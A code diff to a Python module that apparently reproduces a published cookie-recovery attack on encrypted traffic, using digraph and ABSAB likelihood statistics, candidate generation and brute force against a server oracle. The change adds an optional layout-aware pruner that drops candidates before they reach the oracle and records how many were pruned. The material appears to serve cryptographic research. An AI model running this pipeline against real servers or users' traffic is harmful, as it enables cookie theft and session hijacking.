@@ -21,6 +21,7 @@ Pipeline:
 from __future__ import annotations
 
 from dataclasses import dataclass
+from typing import Iterable
 
 import numpy as np
 
@@ -31,7 +32,7 @@ from ..core.likelihood.absab import absab_log_likelihoods
 from ..core.likelihood.combine import combine_likelihoods
 from ..core.likelihood.digraph import digraph_log_likelihoods
 from ..errors import AttackError
-from .bruteforce import BruteForceOracle
+from .bruteforce import BruteForceOracle, CandidatePruner
 from .connection import RecordSniffer
 from .cookies import COOKIE_CHARSET
 from .http import HttpRequestTemplate
@@ -234,12 +235,18 @@ def recover_candidates(
 
 @dataclass(frozen=True)
 class CookieAttackResult:
-    """Outcome of the full §6 pipeline."""
+    """Outcome of the full §6 pipeline.
+
+    ``pruned`` counts the candidates the layout-aware pruner dropped
+    before they reached the server oracle (0 when no pruner ran or the
+    generation alphabet already matched the layout's).
+    """
 
     cookie: bytes
     rank: int
     attempts: int
     num_requests: int
+    pruned: int = 0
 
 
 def run_attack(
@@ -248,14 +255,29 @@ def run_attack(
     *,
     num_candidates: int = 1 << 23,
     charset: bytes = COOKIE_CHARSET,
+    pruner: CandidatePruner | None = None,
 ) -> CookieAttackResult:
-    """Candidate generation plus brute force against the server oracle."""
+    """Candidate generation plus brute force against the server oracle.
+
+    Args:
+        stats: sufficient statistics of the captured requests.
+        oracle: the server accepting exactly one cookie value.
+        num_candidates: Algorithm 2 list size.
+        charset: alphabet Algorithm 2 enumerates over (§6.2).
+        pruner: optional layout-aware filter applied between candidate
+            generation and the oracle — used when the layout metadata
+            declares a tighter alphabet than ``charset``.
+    """
     candidates = recover_candidates(stats, num_candidates, charset=charset)
-    cookie, attempts = oracle.search(candidates.plaintexts)
+    plaintexts: Iterable[bytes] = candidates.plaintexts
+    if pruner is not None:
+        plaintexts = pruner.filter(plaintexts)
+    cookie, attempts = oracle.search(plaintexts)
     rank = candidates.rank_of(cookie)
     return CookieAttackResult(
         cookie=cookie,
         rank=rank if rank is not None else attempts - 1,
         attempts=attempts,
         num_requests=stats.num_requests,
+        pruned=pruner.pruned if pruner is not None else 0,
     )
